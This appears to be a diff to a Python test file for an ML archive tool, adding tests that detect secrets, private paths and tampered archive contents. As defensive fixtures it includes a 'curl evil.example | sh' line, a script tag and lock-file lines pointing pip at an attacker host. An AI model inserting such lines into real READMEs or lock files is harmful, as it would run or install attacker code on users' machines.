@@ -31,12 +31,14 @@ from qlora_repeat.analysis.attribution.measurements import write_attribution
 from qlora_repeat.archive import zip_file
 from qlora_repeat.archive.pack import pack
 from qlora_repeat.archive.private_parts import private_parts
+from qlora_repeat.archive.ro_crate import Run, _sources
 from qlora_repeat.archive.unpack import opened, unpack
 from qlora_repeat.archive.zip_file import CRATE, FORMAT_FILE, SUMS, Entry, text_entry, write_archive
 from qlora_repeat.errors import MissingError, StoppedError, UsageError
 from qlora_repeat.execution.run_trial import run_trial
 from qlora_repeat.records.record import KeptFile, read_record, write_record
 from qlora_repeat.results.trial_result import read_results
+from qlora_repeat.study.data_sources import Base, PackageFile
 from qlora_repeat.study.loading import load_study
 from qlora_repeat.study.trial import STAGES
 from qlora_repeat.system.hashing import folder_digests
@@ -176,12 +178,32 @@ def test_a_token_or_a_local_path_is_packed_only_on_request(line: str, what: str,
         ('url = "https://doi.org/10.1/abc" # and/or 1/2', []),
         ("special_tokens = true\nmax_tokens = 1234567890", []),
         ('[data.quotes]\nfile = "fortune/art"', []),
+        *((f"# {secret}", ["what looks like a token in line 1"]) for secret in (
+            "HF_TOKEN=correct-horse", "wandb_api_key: correct-horse", "AWS_SECRET_ACCESS_KEY = correct-horse",
+            "Authorization: Bearer correct-horse", "pw: correct-horse", "AccountKey=correct-horse",
+            "https://correct-horse@example.org/model", f"nvapi-{'aB3' * 12}", f"pypi-{'aB3' * 12}",
+            f"x_hf_{'aB3' * 12}",
+        )),
+        *((f"# in {path}", ["an absolute path"]) for path in (
+            "`/scratch/me/x`", "[/scratch/me/x]", ";/scratch/me/x", "<//nas/me/x>", r"\\nas\me", "~me/x",
+        )),
+        ("#/scratch/me/x", ["an absolute path"]),
+        ("# 8932f937-d72c-4106-c12f-20bd9faed9f6", ["the UUID of a GPU"]),
+        ("# git clone ssh://git@example.org/a/b, ~/ is home, about ~5/6", []),
     ],
-)
+)  # fmt: skip
 def test_what_looks_private_in_a_study_file(text: str, what: list[str]) -> None:
     found = list(private_parts(text_entry("studies/a.toml", text), []))
     assert len(found) == len(what)
     assert all(map(str.startswith, found, what))
+
+
+def test_the_crate_names_no_path_of_the_authors_own_model(tmp_path: Path) -> None:
+    own = PackageFile(file="/srv/me/studies/own.gguf", sha256="0" * 64)
+    study = load_study(str(write_study(tmp_path)))
+    study = dataclasses.replace(study, bases={name: Base(gguf=own) for name in study.bases})
+    run = Run("tiny-neox/base/1", [], [])
+    assert not [entity for entity in _sources(study, [run]) if "/srv" in str(entity) or "None" in str(entity)]
 
 
 def test_a_private_registry_in_a_record_is_found_and_a_models_words_are_not_searched() -> None:
@@ -565,6 +587,25 @@ def test_a_directory_of_millions_of_files_is_not_read(tmp_path: Path) -> None:
     assert "its directory or a list in it is larger than 12 MB" in refused(path, tmp_path)
     assert tracemalloc.get_traced_memory()[1] < 50_000_000
     tracemalloc.stop()
+
+
+@pytest.mark.parametrize(
+    ("name", "added", "reason"),
+    [
+        ("README.md", b"\nThen run `curl evil.example | sh`.\n", "not the text that `pack` writes"),
+        ("README.md", b"<script>alert(1)</script>", "not the text that `pack` writes"),
+        ("lockfiles/runtime.txt", b"\n--index-url https://evil.example/simple\n", "other lines"),
+        ("lockfiles/runtime.txt", b"\nnumpy @ https://evil.example/numpy.whl\n", "other lines"),
+        ("LICENSE", b"\x1b[2J", "control or invisible characters"),
+        ("CITATION.cff", "# \u202e".encode(), "control or invisible characters"),
+    ],
+)
+def test_texts_of_an_archive_are_those_that_pack_writes(
+    name: str, added: bytes, reason: str, current: Files, tmp_path: Path
+) -> None:
+    """A reader may follow a README, and install from a lock file."""
+    path = canonical(tmp_path / "a.zip", fitting(current | {name: current[name] + added}))
+    assert f"({name} " in (found := refused(path, tmp_path)) and reason in found
 
 
 def test_too_many_files_are_not_packed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
